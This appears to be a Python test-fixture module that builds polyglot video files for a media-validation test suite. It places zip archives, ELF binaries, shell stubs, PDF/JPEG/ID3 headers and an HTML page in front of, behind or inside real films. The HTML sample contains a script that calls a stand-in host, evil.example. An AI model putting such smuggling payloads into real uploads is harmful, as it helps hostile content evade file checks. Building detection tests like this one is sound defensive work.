"""Two things in one file: a film with something behind, before, or inside it."""

import io
import zipfile
from collections.abc import Iterator

from tests.footage.corpus import bases
from tests.footage.corpus.boxes import box
from tests.footage.corpus.strangers import ELF

PAGE = b"<!doctype html><script>fetch('//evil.example')</script>"


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("run.sh"), "#!/bin/sh\n")
    return packed.getvalue()


def _behind() -> Iterator[tuple[str, bytes]]:
    for name in ("front.mp4", "film.webm", "film.ts"):
        film = bases.every()[name]
        yield f"zip-behind-{name}", film + _zip()
        yield f"page-behind-{name}", film + PAGE
        yield f"program-behind-{name}", film + ELF
    film = bases.front()
    yield "zip-in-a-box.mp4", film + box("uuid", bytes(16) + _zip())
    yield "page-in-a-box.mp4", film + box("free", PAGE * 500)
    yield "film-twice.mp4", film + film
    yield "zeros-behind.mp4", film + bytes(100_000)
    yield "film-and-webm.mp4", film + bases.webm()


def _before() -> Iterator[tuple[str, bytes]]:
    film = bases.front()
    yield "zip-before.mp4", _zip() + film
    yield "page-before.mp4", PAGE + film
    yield "script-before.mp4", b"#!/bin/sh\nexit\n" + film
    yield "picture-before.mp4", bytes.fromhex("ffd8ffe000104a464946") + film
    yield "free-before.mp4", box("free", PAGE) + film
    yield "sound-tag-before.mp4", b"ID3\4\0\0\0\0\1\0" + bytes(128) + film
    yield "pdf-before.mp4", b"%PDF-1.7\n" + film


KINDS = (
    (
        "two in one: behind a film",
        "ready, cut short, not a film, damaged",
        lambda: dict(_behind()),
    ),
    ("two in one: before a film", "not a film, ready, cut short, damaged", lambda: dict(_before())),
)
